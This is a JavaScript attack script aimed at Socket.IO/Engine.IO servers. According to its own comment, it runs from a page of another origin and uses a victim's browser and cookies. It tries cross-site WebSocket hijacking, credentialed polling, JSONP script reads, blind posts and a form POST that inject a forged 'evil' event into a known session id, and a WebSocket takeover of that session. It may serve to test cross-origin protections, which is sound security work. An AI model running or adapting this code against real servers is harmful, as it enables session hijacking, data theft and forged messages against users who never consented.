// Runs in a page of another origin, with the victim's browser and all that it sends by itself.

/** Tries everything against the server at url and resolves with what each got: the text that was read, or undefined. */
async function attack(url, eio, sid) {
  const path = '/socket.io/?EIO=' + eio;
  const http = url + path + '&transport=polling&b64=1';
  const ws = url.replace('http', 'ws') + path + '&transport=websocket';
  const known = '&sid=' + sid;
  const post = { method: 'POST', body: eio === 4 ? '42["up",666,"evil"]' : '19:42["up",666,"evil"]' };
  return {
    websocket: await readSocket(ws, []),
    xhr: await read(http),
    jsonp: await readScript(http + '&j=0'),
    'jsonp of the known id': await readScript(http + '&j=0' + known),
    'poll of the known id': await read(http + known),
    'blind poll of the known id': await read(http + known, { mode: 'no-cors' }),
    'post to the known id': await read(http + known, post),
    'blind post to the known id': await read(http + known, { ...post, mode: 'no-cors' }),
    'form to the known id': await read(http + '&j=0' + known, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ d: post.body }) }),
    'takeover of the known id': await readSocket(ws + known, ['2probe', '5', '427["seen"]']),
  };
}

async function read(url, options) {
  try {
    const answer = await fetch(url, { credentials: 'include', signal: AbortSignal.timeout(5000), ...options });
    return await answer.text() || undefined; // of a blind one there is nothing to read
  } catch {
    return undefined;
  }
}

/** The first messages of a websocket, or of none. */
function readSocket(url, says) {
  return new Promise((resolve) => {
    const ws = new WebSocket(url);
    const heard = [];
    const end = () => { ws.close(); resolve(heard.join(' ') || undefined); };
    ws.onopen = () => says.forEach((text) => ws.send(text));
    ws.onmessage = ({ data }) => { if (heard.push(data) === 2) end(); };
    ws.onclose = ws.onerror = end;
    setTimeout(end, 5000);
  });
}

/** What a script brings that calls ___eio, as JSONP does. */
function readScript(src) {
  return new Promise((resolve) => {
    const script = Object.assign(document.createElement('script'), { src });
    window.___eio = [(text) => resolve(String(text))];
    script.onload = script.onerror = () => { script.remove(); resolve(undefined); };
    document.head.append(script);
  });
}
